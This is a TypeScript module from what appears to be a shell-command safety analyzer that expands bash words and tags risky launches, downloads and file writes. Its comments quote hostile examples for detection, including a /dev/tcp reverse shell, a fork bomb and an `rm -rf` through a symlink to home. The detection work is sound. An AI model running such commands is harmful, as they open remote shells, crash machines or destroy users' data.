// A simple command: its words expanded, its program found (a function, an
// alias, a builtin, a program the knowledge tables describe, or one they do
// not), its arguments read by role, the command recorded with the data that
// flows into it, and then whatever it launches.
import { REMOTE_HOST, REMOTE_SHELLS } from "../programs/network.ts";
import { compressedTwin } from "../programs/carriers/archivers.ts";
import type { Assignment, Command, Word } from "unbash";
import { MAX_ARRAY_INDEX, MIN_LOOP_COUNT_AT_SCALE } from "../../limits.ts";
import { type Field, knownBasename, literalField, mergeSources, runTimePattern, unknownField } from "../expand/field.ts";
import { evaluateArithmeticWord, expandToValue, expandWord, type Value, type WordEnvironment } from "../expand/words.ts";
import { EXTRACTORS } from "../programs/carriers/extractors.ts";
import { inCategory } from "../programs/categories.ts";
import { FILE_COPIERS } from "../programs/files.ts";
import { lineNamesSharedEnvironment, picksDatabase } from "../programs/database-targets.ts";
import { picksDestination } from "../programs/trial-destinations.ts";
import { SHELL_BUILTINS } from "../programs/builtins.ts";
import { UNDESCRIBED_SUBCOMMAND } from "../programs/spec.ts";
import { helpRequest } from "../programs/help-request.ts";
import { lookalikePackageTags } from "../programs/lookalike-packages.ts";
import { RUNS_INSTALLED_PACKAGE, unknownToolsInstalled } from "../programs/tool-installs.ts";
import { SHARED_ENVIRONMENT, UNKNOWN_PROGRAM, undescribedSubcommandTags, unknownProgramTags, unreadProgramTags } from "../programs/unknown-programs.ts";
import { FETCHERS, fetchDestination } from "../programs/fetchers.ts";
import { CLONERS, cloneOf, RUNS_DOWNLOADED_PROJECT, runsProjectCode } from "../programs/project-code.ts";
import { readArgv } from "../programs/read-argv.ts";
import type { SimpleCommand } from "../view/view.ts";
import { excerpt, type Analysis } from "./analysis.ts";
import { applyBuiltin } from "./builtins.ts";
import { withEnvironmentArguments } from "./environment-arguments.ts";
import { judgeAssignedValue, judgeEvaluatedArguments, judgeExportedFunction } from "./evaluated-text.ts";
import { basename, buildCommand, type CommandParts, knownValues, programNameOf } from "./build-command.ts";
import { planLaunches, runLaunches } from "./launches.ts";
import { recordOutput } from "./output.ts";
import { recordPrintedKind } from "./printed-kind.ts";
import { CODE_RUN, HOOK_RUN, type Plan, REPEATED_AT_SCALE, SWITCHED_USER, USER_SWITCHES } from "./plan.ts";
import { readRedirects } from "./redirects.ts";
import { recordSecretText } from "./secret-text.ts";
import type { RedirectTarget, RunContext } from "./run-context.ts";
import { nestedIn, restoreLocals, returnDirectory, type FunctionDef, type State, type Stdin } from "./state.ts";
import { wordEnvironment } from "./word-environment.ts";

export function walkCommand(node: Command, analysis: Analysis, state: State) {
  analysis.charge();
  const env = wordEnvironment(analysis, state);
  const facts = readRedirects(node.redirects, env, analysis);
  const assignments = node.prefix.filter((part): part is Assignment => part.type === "Assignment");
  if (!node.name) {
    for (const assignment of assignments) {
      const value = assignedValue(assignment, env, state);
      // Judged with the variables as they were: `count=count+1` reads the old count.
      judgeAssignedValue(assignment.name, value, analysis, state, env);
      state.vars.set(assignment.name, value);
    }
    if (facts.targets.length > 0) emitBareRedirect(facts.targets, analysis, state);
    return;
  }
  const commandEnv = new Map<string, Value>();
  for (const assignment of assignments) {
    const value = assignedValue(assignment, env, state);
    commandEnv.set(assignment.name, value);
    judgeAssignedValue(assignment.name, value, analysis, state, env);
  }
  if (expandAlias(node, node.name, analysis, state)) return;
  const fields = [node.name, ...node.suffix].flatMap((part) => {
    if (part.type === "Word") return expandWord(part, env);
    if (part.type === "Assignment") return [assignmentField(part, env, state)];
    return [];
  });
  const context: RunContext = { redirects: facts.targets, env: commandEnv, stdin: facts.stdin ?? state.stdin, unseenArgs: false };
  runCommand(fields, context, analysis, state);
}

/** The command's own variables whose one value the input shows; undefined when it sets none. */
function shownAssignments(env: ReadonlyMap<string, Value>): Record<string, string> | undefined {
  const shown = [...env].flatMap(([name, value]) => (value.known && value.values.length === 1 ? [[name, value.values[0]!] as const] : []));
  return shown.length > 0 ? Object.fromEntries(shown) : undefined;
}

/**
 * Variables picking a database's server or environment, or where a publish or a chain send goes (`ETH_RPC_URL`), that
 * the input set for the command with a run-time value, or set earlier in its shell (exported or not: the guard does
 * not follow which are), as `unshownEnvironment` holds them.
 */
function unshownDatabaseVariables(env: ReadonlyMap<string, Value>, vars: ReadonlyMap<string, Value>): Record<string, string | null> | undefined {
  const picks = (name: string) => picksDatabase(name) || picksDestination(name);
  const unshown: [string, string | null][] = [];
  for (const [name, value] of env) if (picks(name) && !(value.known && value.values.length === 1)) unshown.push([name, null]);
  for (const [name, value] of vars) {
    if (!picks(name) || env.has(name)) continue;
    unshown.push([name, value.known && value.values.length === 1 ? value.values[0]! : null]);
  }
  return unshown.length > 0 ? Object.fromEntries(unshown) : undefined;
}

/** A value assigned by `X=…` (with `~` after `=` and `:` expanded, as bash does), an array `A=(…)`, `A+=(…)` or one element `A[1]=…`. */
function assignedValue(assignment: Assignment, env: WordEnvironment, state: State): Value {
  const before = state.vars.get(assignment.name);
  if (assignment.value.type === "ArrayValue") {
    const elements = assignment.value.elements.flatMap((element) => expandWord(element, env)).map(valueOfField);
    return arrayValue(assignment.append && before ? [...elementsOf(before), ...elements] : elements, before && assignment.append ? before : undefined);
  }
  const value = expandToValue(assignment.value, env, { tildeAfterColons: true });
  // An indexed array's subscript is arithmetic: `y='b[$(…)]'; a[y]=1` evaluates y's value, and its `$(…)` runs.
  if (assignment.index) evaluateArithmeticWord(assignment.index, env);
  if (assignment.index) return elementAssigned(before, assignment.index, assignment.append === true, value, env);
  if (!assignment.append) return value;
  if (before?.elements) return elementAssigned(before, undefined, true, value, env);
  return appended(before, value);
}

function appended(before: Value | undefined, value: Value): Value {
  if (before === undefined) return value;
  if (!before.known || !value.known) return { values: [], known: false, sources: mergeSources(before.sources, value.sources) };
  return { values: before.values.flatMap((head) => value.values.map((tail) => head + tail)), known: true, sources: mergeSources(before.sources, value.sources) };
}

/** An array from its elements: `$A` is element 0. An array whose elements the input does not show is unknown. */
function arrayValue(elements: readonly Value[], unknownBefore?: Value): Value {
  if (elements.length > MAX_ARRAY_INDEX) return { values: [], known: false, sources: mergeSources(...elements.map((element) => element.sources)) };
  if (unknownBefore && !unknownBefore.elements && !unknownBefore.known)
    return { values: [], known: false, sources: mergeSources(unknownBefore.sources, ...elements.map((element) => element.sources)) };
  const first = elements[0] ?? { values: [""], known: true, sources: [] };
  return { values: first.values, known: first.known, sources: mergeSources(...elements.map((element) => element.sources)), elements };
}

function elementsOf(value: Value): readonly Value[] {
  return value.elements ?? [value];
}

/** `A[2]=x`, `A[i]+=x`, `A+=x` (element 0): one element changes; at an index only the run knows, the array is unknown. */
function elementAssigned(before: Value | undefined, index: Word | undefined, append: boolean, value: Value, env: WordEnvironment): Value {
  const elements = before ? [...elementsOf(before)] : [];
  if (before && !before.elements && !before.known) return { values: [], known: false, sources: mergeSources(before.sources, value.sources) };
  const at = index === undefined ? 0 : indexOf(index, env, elements.length);
  if (at === undefined || at > MAX_ARRAY_INDEX) return { values: [], known: false, sources: mergeSources(before?.sources ?? [], value.sources) };
  while (elements.length <= at) elements.push({ values: [""], known: true, sources: [] });
  elements[at] = append ? appended(elements[at], value) : value;
  return arrayValue(elements);
}

/** A literal index (negative counts from the end); undefined when only the run knows it. */
function indexOf(index: Word, env: WordEnvironment, size: number): number | undefined {
  const value = expandToValue(index, env);
  const text = value.known && value.values.length === 1 ? value.values[0]!.trim() : undefined;
  if (text === undefined || !/^-?\d{1,9}$/.test(text)) return undefined;
  const at = Number(text);
  return at < 0 ? (size + at >= 0 ? size + at : undefined) : at;
}

function valueOfField(field: Field): Value {
  return {
    values: field.values,
    known: field.known,
    sources: field.sources,
    ...(field.pattern ? { pattern: true } : {}),
    ...(field.suffix !== undefined ? { suffix: field.suffix } : {}),
  };
}

/** `export X=1`, `local y=$(…)`: the assignment as the word the builtin sees; the builtin applies it. */
function assignmentField(assignment: Assignment, env: WordEnvironment, state: State): Field {
  const value = assignedValue(assignment, env, state);
  return {
    text: assignment.text,
    values: value.values.map((text) => `${assignment.name}=${text}`),
    known: value.known,
    pattern: false,
    sources: value.sources,
    assigned: { name: assignment.name, value },
  };
}

/** `alias ll='ls -la'; ll ~`: the alias text replaces the word, then the line is read again. */
function expandAlias(node: Command, name: Word, analysis: Analysis, state: State): boolean {
  const alias = name.parts === undefined ? state.aliases.get(name.value) : undefined;
  if (alias === undefined || !analysis.canNest(state)) return false;
  const rest = state.source.slice(name.end, node.end);
  const inner = nestedIn(state, `alias ${name.value}`);
  inner.aliases.delete(name.value); // an alias is not expanded inside itself
  // The alias's text runs in this shell: what it sets and where it moves stay (`alias go='cd ~'; go; rm -rf x`).
  inner.vars = state.vars;
  inner.functions = state.functions;
  returnDirectory(analysis.walker.walkSource(`${alias}${rest}`, analysis, inner), state);
  return true;
}

/** A command that launches, carries and sends nothing of its own, where the input has it now. */
function plainParts(parts: Pick<CommandParts, "program" | "args" | "reading" | "redirects" | "unseenArgs">, state: State): CommandParts {
  return { ...parts, via: state.via, cwd: state.cwd, code: [], remoteCode: false, network: [] };
}

/** Only redirects, no program (`> ~/.bashrc`, `X=1 > file`): the files are still written or read. */
/** The files a group's or loop's stdout redirects write (`{ …; } > f`): each command in it writes what it prints there. */
export function stdoutWrites(targets: readonly RedirectTarget[], analysis: Analysis, state: State): readonly string[] {
  const stdout = targets.filter((target) => target.direction === "write" && target.stdout);
  if (stdout.length === 0) return [];
  return buildCommand(plainParts({ program: undefined, args: [], reading: readArgv(undefined, []), redirects: stdout, unseenArgs: false }, state), analysis).writes;
}

export function emitBareRedirect(targets: readonly RedirectTarget[], analysis: Analysis, state: State) {
  const command = buildCommand(plainParts({ program: undefined, args: [], reading: readArgv(undefined, []), redirects: targets, unseenArgs: false }, state), analysis);
  const index = analysis.emit(command, state.captured);
  for (const path of command.writes) analysis.files.set(path, { writer: index, downloaded: false, ...(state.stdin.kind === "text" ? { content: state.stdin.text } : {}) });
  // `$(< file)` is bash's `$(cat file)`: the substitution holds the file's text.
  if (state.captured > 0 && command.writes.length === 0 && command.reads.length === 1) {
    const text = analysis.dataText(command.reads[0]);
    if (text !== undefined) analysis.outputs.set(index, text);
  }
}

export function runCommand(argv: readonly Field[], context: RunContext, analysis: Analysis, state: State): void {
  analysis.charge();
  const [program, ...written] = argv;
  let args: readonly Field[] = written;
  if (!program) {
    if (context.redirects.length > 0) emitBareRedirect(context.redirects, analysis, state);
    return;
  }
  if (!program.known || program.values.length !== 1 || namesSomeProgram(program)) return runUncertainProgram(program, args, context, analysis, state);
  const value = program.values[0]!;
  const definition = value.includes("/") ? undefined : state.functions.get(value);
  if (definition) return callFunction(definition, args, context, analysis, state);
  const hashed = hashedProgram(value, program, state);
  if (hashed) return runCommand([hashed, ...args], context, analysis, state);
  const name = programNameOf(value);
  const spec = analysis.programs.spec(name);
  args = withEnvironmentArguments(spec, args, context.env, state.vars);
  // git's own programs (`/usr/lib/git-core/git-push`, `git-push`) are its subcommands.
  const gitSubcommand = spec ? undefined : /^git-([a-z][a-z0-9-]*)$/.exec(name)?.[1];
  if (gitSubcommand) return runCommand([literalField("git", program.text), literalField(gitSubcommand, program.text), ...args], context, analysis, state);
  // `kubectl delete --help`: only the help text is printed; judged as the program asked for help alone.
  const help = value.includes("/") && spec === undefined ? undefined : helpRequest(name, spec, args);
  if (help !== undefined) return runCommand([program, literalField(help, help)], context, analysis, state);
  const plan = planLaunches(name, spec, program, args, context, analysis, state);
  if (runsProjectCode(name, plan.reading.subcommand) && inDownloadedTree(plan, analysis, state)) plan.reading.tags.push(RUNS_DOWNLOADED_PROJECT);
  if (state.hooked) plan.reading.tags.push(HOOK_RUN);
  if (state.fromCode) plan.reading.tags.push(CODE_RUN);
  if (state.via.some((step) => USER_SWITCHES.has(step))) plan.reading.tags.push(SWITCHED_USER);
  if (state.via.some((step) => REMOTE_SHELLS.has(step))) plan.reading.tags.push(REMOTE_HOST);
  if ((state.repeats ?? 0) >= MIN_LOOP_COUNT_AT_SCALE) plan.reading.tags.push(REPEATED_AT_SCALE);
  const command = buildCommand(
    {
      program,
      args,
      reading: plan.reading,
      redirects: context.redirects,
      via: state.via,
      cwd: state.cwd,
      unseenArgs: context.unseenArgs,
      code: plan.code,
      remoteCode: plan.remoteCode,
      network: [],
    },
    analysis,
  );
  const environment = shownAssignments(context.env);
  if (environment) command.environment = environment;
  // A path (`./x`, `bin/x`) is judged by what the file holds; a name nobody described, by its words.
  if (spec === undefined && describedByNoFile(value, analysis) && !SHELL_BUILTINS.has(name))
    command.tags.push(...unknownProgramTags(command, { answered: stdinAnswers(context.stdin, analysis), variables: shownVariables(state.vars) }));
  else if (spec === undefined && unreadFile(value, analysis, state)) command.tags.push(...unreadProgramTags(command));
  else if (command.tags.includes(UNDESCRIBED_SUBCOMMAND)) command.tags.push(...undescribedSubcommandTags(command));
  // Any other command is labelled when its line names production or staging (`--settings=shop.settings.prod`).
  else if (lineNamesSharedEnvironment(command)) command.tags.push(SHARED_ENVIRONMENT);
  command.tags.push(...lookalikePackageTags(command));
  // Run after an install of a package that is no well-known tool: a program nobody described, or the package's own name.
  if (analysis.installedTools.size > 0 && (command.tags.includes(UNKNOWN_PROGRAM) || analysis.installedTools.has(name))) command.tags.push(RUNS_INSTALLED_PACKAGE);
  for (const tool of unknownToolsInstalled(command)) analysis.installedTools.add(tool);
  const unshown = unshownDatabaseVariables(context.env, state.vars);
  if (unshown) command.unshownEnvironment = unshown;
  const index = analysis.emit(command, state.captured);
  for (const assignment of plan.reading.assignments) for (const text of assignment.known ? assignment.values : []) judgeExportedFunction(text, analysis, state);
  recordFlows(index, command, argv, context, plan, analysis, state);
  recordSecretText(command, context, analysis, state);
  recordOutput(index, name, plan.reading, args, context, analysis, state);
  recordPrintedKind(index, name, plan, args, context, analysis, state);
  recordWrites(index, command, context, analysis, state);
  recordLink(command, analysis);
  recordExtraction(command, context, analysis, state);
  recordClone(name, plan, analysis, state);
  recordFetch(name, args, plan, analysis, state);
  // `/usr/bin/cd x` is a program, not the builtin: it changes nothing here.
  if (!value.includes("/")) {
    judgeEvaluatedArguments(name, plan.reading, args, wordEnvironment(analysis, state), analysis, state);
    applyBuiltin(name, plan.reading, args, analysis, state, context.stdin, context.env);
  }
  runLaunches(plan, index, analysis, state, socketRedirects(context.redirects));
}

/** A program run by its path whose file nothing shows (not written above, not given from the memory or the disk). */
function unreadFile(value: string, analysis: Analysis, state: State): boolean {
  if (!value.includes("/")) return false;
  const path = analysis.resolvePath(value, state.cwd);
  return path !== undefined && !analysis.files.has(path);
}

/**
 * A plain name, or a program installed in a `bin` directory outside the project, by its full path
 * (`/opt/acme/bin/acmectl`, `~/.local/bin/acmectl`), whose text the analysis does not have: judged by its words. A
 * path whose text is known (a script written above) is judged as that script; a path inside the project is the
 * project's own code, read from disk.
 */
function describedByNoFile(value: string, analysis: Analysis): boolean {
  if (!value.includes("/")) return true;
  return /^\/(?:.*\/)?s?bin\/[^/]+$/.test(value) && !analysis.files.has(value);
}

/** `yes | acmectl purge x`, `echo y | …`, `… <<< yes`: what arrives on stdin answers the tool's question. */
function stdinAnswers(stdin: Stdin, analysis: Analysis): boolean {
  if (stdin.kind === "text") return YES_ANSWER.test(stdin.text);
  if (stdin.kind !== "pipe" || stdin.sources.length === 0) return false;
  return stdin.sources.every((source) => analysis.commands[source]?.name === "yes" || YES_ANSWER.test(analysis.outputs.get(source) ?? ""));
}

const YES_ANSWER = /^\s*(?:y|yes)\s*(?:\n|$)/i;

/** The variables the shell set earlier whose values it shows (`export ACME_YES=1; acmectl …`). */
function shownVariables(vars: ReadonlyMap<string, Value>): Map<string, string> {
  const shown = new Map<string, string>();
  for (const [name, value] of vars) if (value.known && value.values.length === 1) shown.set(name, value.values[0]!);
  return shown;
}

/** `ln -s ~ build && rm -rf build/`: the paths after it that go through the link are the target's. */
function recordLink(command: SimpleCommand, analysis: Analysis) {
  if (command.name !== "ln" || !command.flags.some((flag) => flag === "-s" || flag === "--symbolic")) return;
  if (command.operands.length === 2 && command.writes.length === 1) analysis.addLink(command.writes[0]!, command.operands[0]!);
}

/**
 * A launched program inherits its launcher's open files: `nohup bash -i >& /dev/tcp/h/p 0>&1` wires the shell to
 * the connection as surely as without nohup. Only the connections are handed on (a file redirect is the launcher's).
 */
function socketRedirects(redirects: readonly RedirectTarget[]): RedirectTarget[] {
  return redirects.filter((target) => target.field.values.length > 0 && target.field.values.every((value) => /^\/dev\/(?:tcp|udp)\//.test(value)));
}

/** `hash -p /bin/rm ls; ls …`: the name runs the remembered path (a builtin keeps its own meaning). */
function hashedProgram(name: string, program: Field, state: State): Field | undefined {
  if (name.includes("/") || !state.hashed.has(name) || SHELL_BUILTINS.has(name)) return undefined;
  const path = state.hashed.get(name);
  if (path === undefined) return unknownField(program.text);
  // A path without a slash is looked up from the working directory, not again in the hash table.
  return literalField(path.includes("/") ? path : `./${path}`, program.text);
}

/** A pattern whose name part holds glob characters (`$(mktemp)`, `$(whoami)`): which program runs is only known at run time. */
function namesSomeProgram(program: Field): boolean {
  return program.pattern && program.values.some((value) => /[*?[]/.test(basename(value)));
}

/**
 * `$CMD x`, `for c in rm ls; do $c …`: several known programs are each judged; an unknown one cannot be — unless
 * its name is certain where its directory is not (`$(which rm) -rf x`, `"$(brew --prefix)/bin/x"`): that program.
 */
function runUncertainProgram(program: Field, args: readonly Field[], context: RunContext, analysis: Analysis, state: State): void {
  const named = programOfKnownName(program);
  if (named) return runCommand([named, ...args], context, analysis, state);
  if (program.known && program.values.length > 1 && !namesSomeProgram(program)) {
    for (const value of program.values) runCommand([literalField(value, program.text), ...args], context, analysis, state);
    return;
  }
  // `$env:NAME = value` is PowerShell, judged as such (analyze.ts); bash would run a missing `:NAME`.
  if (isPowershellEnvAssignment(program, args, state)) return;
  analysis.problem(state, `the program to run is only known at run time: ${excerpt(program.text)}`);
  for (const value of program.values) runCommand([literalField(value, program.text), ...args], context, analysis, state);
  const reading = readArgv(undefined, args);
  const command = buildCommand(plainParts({ program, args, reading, redirects: context.redirects, unseenArgs: true }, state), analysis);
  const index = analysis.emit(command, state.captured);
  recordFlows(index, command, [program, ...args], context, undefined, analysis, state);
}

/**
 * `$env:NAME = value`, `$env:PATH += ";C:\\x"`: PowerShell's assignment of an environment variable, as bash reads it.
 * Not when the input itself gives bash's `$env` a value (`env=$(cat f); $env:X = 1`): bash then runs that value.
 */
function isPowershellEnvAssignment(program: Field, args: readonly Field[], state: State): boolean {
  const variable = /^\$(env):[A-Za-z_]\w*/i.exec(program.text)?.[1];
  if (variable === undefined || state.vars.has(variable)) return false;
  return /^\$env:[A-Za-z_]\w*[+-]?=/i.test(program.text) || /^[+-]?=/.test(args[0]?.text ?? "");
}

/**
 * A program whose directory only the run knows but whose name is certain: every path the field may hold ends in
 * the same name (`/usr/bin/rm`, `/opt/x/bin/rm`, … from `$(which rm)`), or its
 * known ending does (`…/bin/x`). As one field with that value.
 */
function programOfKnownName(program: Field): Field | undefined {
  const fromEnding = knownBasename(program);
  if (fromEnding !== undefined) return { ...literalField(`…${program.suffix}`, program.text), sources: program.sources };
  if (!program.known || !program.pattern || program.values.length < 2) return undefined;
  const names = new Set(program.values.map((value) => basename(value)));
  const [name] = names;
  if (names.size !== 1 || name === undefined || name === "" || /[*?[]/.test(name)) return undefined;
  return { ...literalField(program.values[0]!, program.text), pattern: true, sources: program.sources };
}

/**
 * A function runs its body with the arguments as $1, $2, …. A function that
 * calls itself is followed one level in, with arguments only the run knows
 * (each deeper call would run the same commands on values the guard cannot
 * count down): its body is then judged for any argument, and the recursion
 * ends there instead of at the depth limit.
 */
function callFunction(definition: FunctionDef, args: readonly Field[], context: RunContext, analysis: Analysis, state: State) {
  definition.called = true;
  const frame = `function ${definition.name}`;
  const recursion = state.via.filter((via) => via === frame).length;
  if (state.concurrent && recursion > 0) return emitForkBomb(definition, args, context, analysis, state);
  if (recursion >= 2 || !analysis.canNest(state)) return;
  const positional = recursion === 0 ? [literalField(definition.name), ...args] : undefined;
  const inner = nestedIn(state, frame, { positional, stdin: context.stdin, concurrent: false, locals: new Map() });
  // Variables set in a function are global in bash: share them with the caller; its `local` ones are restored after.
  inner.vars = state.vars;
  analysis.walker.walkCommandNode(definition.body, analysis, inner);
  restoreLocals(inner);
  if (state.cwd !== inner.cwd) state.cwd = inner.cwd;
}

/**
 * A function that starts itself again alongside itself (`:(){ :|:& };:`,
 * `f(){ f & f; }`) multiplies until the machine runs out of processes: the
 * call is recorded as a command tagged `fork-bomb`, and not followed further.
 */
function emitForkBomb(definition: FunctionDef, args: readonly Field[], context: RunContext, analysis: Analysis, state: State) {
  const reading = readArgv(undefined, args);
  reading.tags.push("fork-bomb");
  const command = buildCommand(plainParts({ program: literalField(definition.name), args, reading, redirects: context.redirects, unseenArgs: false }, state), analysis);
  analysis.emit(command, state.captured);
}

/** Data reaching the command: substitutions and variables in its words, its stdin, files the input wrote. */
function recordFlows(index: number, command: SimpleCommand, argv: readonly Field[], context: RunContext, plan: Plan | undefined, analysis: Analysis, state: State) {
  for (const field of argv) for (const source of field.sources) analysis.flow(source, index, "substitution");
  for (const value of context.env.values()) for (const source of value.sources) analysis.flow(source, index, "variable");
  if (context.stdin.kind === "pipe" || context.stdin.kind === "text") for (const source of context.stdin.sources) analysis.flow(source, index, "pipe");
  const stdinFile = context.stdin.kind === "file" ? analysis.resolvePath(context.stdin.path, state.cwd) : undefined;
  for (const path of [...command.reads, ...command.paths, ...(stdinFile ? [stdinFile] : [])]) {
    const written = analysis.files.get(path);
    if (written && written.writer !== index) analysis.flow(written.writer, index, plan?.executes.includes(path) ? "exec" : "file", path);
  }
}

/**
 * `curl -o a …; mv a b; sh b`: a copy (or a move, or a link) of a file the input downloaded or wrote holds what
 * it held — in the destination, or, when that is a directory, under the source's name there.
 */
function recordCopies(index: number, command: SimpleCommand, analysis: Analysis): boolean {
  // A rename reads nothing (mv names what it moves as a path), but what it moves is what the new name holds.
  const moved = command.reads.length > 0 ? command.reads : command.paths.filter((path) => !command.writes.includes(path));
  const sources = moved.filter((path) => analysis.isDownloaded(path) || analysis.files.has(path));
  if (sources.length === 0) return false;
  for (const source of sources) {
    const original = analysis.files.get(source);
    const copy = {
      writer: index,
      downloaded: analysis.isDownloaded(source),
      ...(original?.content !== undefined ? { content: original.content } : {}),
      ...(original?.printed ? { printed: true as const } : {}),
    };
    for (const target of command.writes) {
      if (moved.length === 1) analysis.files.set(target, copy);
      analysis.files.set(`${target}/${source.slice(source.lastIndexOf("/") + 1)}`, copy);
    }
  }
  return true;
}

/** An archive unpacked from a download (`curl … | tar xz`, `unzip x.zip` after `curl -o x.zip`): its directory holds downloaded files. */
function recordExtraction(command: SimpleCommand, context: RunContext, analysis: Analysis, state: State) {
  const modes = EXTRACTORS[command.name];
  if (!modes) return;
  if (modes.length > 0 && !command.flags.some((flag) => modes.includes(flag))) return;
  const fromNetwork = (context.stdin.kind === "pipe" && context.stdin.remote) || command.reads.some((path) => analysis.files.get(path)?.downloaded);
  if (!fromNetwork) return;
  const into = command.writes.length > 0 ? command.writes : [analysis.resolvePath(".", state.cwd)];
  for (const dir of into) if (dir !== undefined) analysis.downloadedTrees.push(dir);
}

/** `git clone URL [DIR]`, `gh repo clone o/r`: the clone's directory holds code from the network (../programs/project-code.ts). */
function recordClone(name: string, plan: Plan, analysis: Analysis, state: State) {
  const positional = plan.reading.roled.filter((arg) => arg.option === undefined).map((arg) => arg.field.values[0] ?? "");
  const clone = cloneOf(name, plan.reading.subcommand, positional);
  if (!clone) return;
  const forge = CLONERS[name]!.length === 0 || name === "gh" || name === "glab";
  // A URL, `user@host:path`, or a short remote name: `host:path` (an ssh alias), Launchpad's `lp:project` (bzr, brz).
  if (!forge && !/^[\w+.-]+:\/\/|^[\w.-]+@[\w.-]+:|^[A-Za-z][\w.-]+:(?![\\/])/.test(clone.source)) return;
  const into =
    clone.into ??
    basename(clone.source.replace(/\/+$/, ""))
      .replace(/\.git$/, "")
      .replace(/^.*:/, "");
  const dir = analysis.resolvePath(into, state.cwd);
  if (dir !== undefined) analysis.downloadedTrees.push(dir);
}

/** `scp host:x ./x`, `aws s3 cp s3://b/x x`, `oras pull REF -o dir`: what lands at the destination came from elsewhere (../programs/fetchers.ts). */
function recordFetch(name: string, args: readonly Field[], plan: Plan, analysis: Analysis, state: State) {
  if (FETCHERS[name] === undefined) return;
  const single = (field: Field) => (field.known && field.values.length === 1 ? field.values[0]! : "");
  const positional = plan.reading.roled.filter((arg) => arg.option === undefined).map((arg) => single(arg.field));
  const destination = fetchDestination(name, { subcommand: plan.reading.subcommand, positional, words: args.map(single) });
  const dir = destination === undefined ? undefined : analysis.resolvePath(destination, state.cwd);
  if (dir !== undefined) analysis.downloadedTrees.push(dir);
}

/** The working directory, or a directory or file the command names (`make -C DIR`, `--manifest-path`), is inside a clone or a downloaded archive. */
function inDownloadedTree(plan: Plan, analysis: Analysis, state: State): boolean {
  // Any word may name the tree: a package spec that is a directory (`pip install ./repo`, `-e repo`, `--manifest-path repo/Cargo.toml`).
  const named = plan.reading.roled.flatMap((arg) => arg.field.values);
  return [".", ...named].some((text) => {
    // `yarn add file:./x.tgz`, `npm install file:../lib`: a package spec naming a local path.
    const path = analysis.resolvePath(text.replace(/^file:/, ""), state.cwd);
    return path !== undefined && path !== "." && analysis.isDownloaded(path);
  });
}

/**
 * `> "$OUT/run.sh"`: a file whose name only the run knows is kept under the pattern of the names it may have, with
 * what was printed into it, so `bash "$OUT/run.sh"` after it (here or in a later call) is judged by that text.
 */
function recordRunTimeTargets(index: number, context: RunContext, analysis: Analysis, state: State) {
  for (const target of context.redirects) {
    if (target.direction !== "write") continue;
    const pattern = runTimePattern(target.field);
    const path = pattern === undefined ? undefined : analysis.resolvePath(pattern, state.cwd);
    if (path === undefined) continue;
    const printed = analysis.outputs.get(index);
    analysis.files.set(path, {
      writer: index,
      downloaded: context.stdin.kind === "pipe" && context.stdin.remote,
      ...(printed !== undefined ? { content: printed } : {}),
      printed: true,
      ...(target.append ? { append: true as const } : {}),
    });
  }
}

/** `gzip -k f`, `gunzip f.gz`: the file made beside each operand holds its data, so it is a copy of it. */
function recordCompressedTwins(index: number, command: SimpleCommand, analysis: Analysis): Set<string> {
  const compressed = new Set<string>();
  // Compressed in place the file is a write; kept (`-k`) a read.
  for (const path of [...command.writes, ...command.reads]) {
    const twin = compressedTwin(command.name, command.flags, path);
    if (twin === undefined) continue;
    compressed.add(path);
    analysis.files.set(twin, { writer: index, downloaded: analysis.isDownloaded(path), origins: [path] });
    analysis.copiedFrom.set(twin, [path]);
  }
  return compressed;
}

/** `tee -a` / `tee --append` adds to its files. */
function teeAppends(command: SimpleCommand): boolean {
  return command.flags.includes("-a") || command.flags.includes("--append");
}

/** Files this command writes: later commands that read or run them are connected to it. */
function recordWrites(index: number, command: SimpleCommand, context: RunContext, analysis: Analysis, state: State) {
  recordRunTimeTargets(index, context, analysis, state);
  const compressed = recordCompressedTwins(index, command, analysis);
  if (command.writes.length === 0) return;
  if (FILE_COPIERS.has(command.name) && recordCopies(index, command, analysis)) return;
  // Written by a downloader, by a netcat (what it prints came over the connection: `nc host 9000 > run.sh`), or by a
  // command whose input is a download (curl … | tee f, `base64 -d blob.txt > run.sh`: decoded, it is still the download's).
  const downloaded =
    inCategory(command.name, "downloader") ||
    inCategory(command.name, "netcat") ||
    (context.stdin.kind === "pipe" && context.stdin.remote) ||
    command.reads.some((path) => analysis.isDownloaded(path));
  const redirected = new Set(
    context.redirects
      .filter((target) => target.direction === "write")
      .flatMap((target) => knownValues(target.field, analysis).map((value) => analysis.resolvePath(value, state.cwd))),
  );
  const appended = new Set(
    context.redirects
      .filter((target) => target.direction === "write" && target.append)
      .flatMap((target) => knownValues(target.field, analysis).map((value) => analysis.resolvePath(value, state.cwd))),
  );
  const printed = analysis.outputs.get(index);
  for (const path of command.writes) {
    // Compressed beside itself: kept as it was (`-k`) or removed, never holding new text.
    if (compressed.has(path)) continue;
    const viaRedirect = redirected.has(path);
    const content = command.name === "tee" && context.stdin.kind === "text" ? context.stdin.text : viaRedirect ? printed : undefined;
    const printedInto = viaRedirect || command.name === "tee";
    const append = viaRedirect ? appended.has(path) : command.name === "tee" && teeAppends(command);
    analysis.files.set(path, {
      writer: index,
      downloaded,
      ...(content !== undefined ? { content } : {}),
      ...(printedInto ? { printed: true as const } : {}),
      ...(append ? { append: true as const } : {}),
    });
  }
}
